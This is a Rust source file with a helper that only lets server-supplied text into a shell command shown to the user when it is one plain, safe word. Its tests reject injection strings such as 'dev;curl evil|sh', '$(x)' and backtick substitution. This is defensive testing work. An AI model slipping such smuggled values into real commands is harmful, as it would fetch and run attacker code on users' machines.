//! Text from a server in a command that the user is told to run: it is shown only if a shell reads it as one plain word.

/// The text as a word of a command, or the placeholder.
#[must_use]
pub fn word<'t>(text: &'t str, placeholder: &'t str) -> &'t str {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-._~:/%[]@+".contains(c);
    if !text.is_empty() && !text.starts_with('-') && text.chars().all(plain) { text } else { placeholder }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_word_is_shown_when_it_is_one() {
        for text in
            ["prod", "https://backstage.example.com:8443/portal", "http://[::1]:7007", "xn--e1a.example"]
        {
            assert_eq!(word(text, "NAME"), text);
        }
        for text in ["dev;curl evil|sh", "$(x)", "a b", "`x`", "--yes", "", "a&b", "it's", "a\\nb", "dév"] {
            assert_eq!(word(text, "NAME"), "NAME");
        }
    }
}
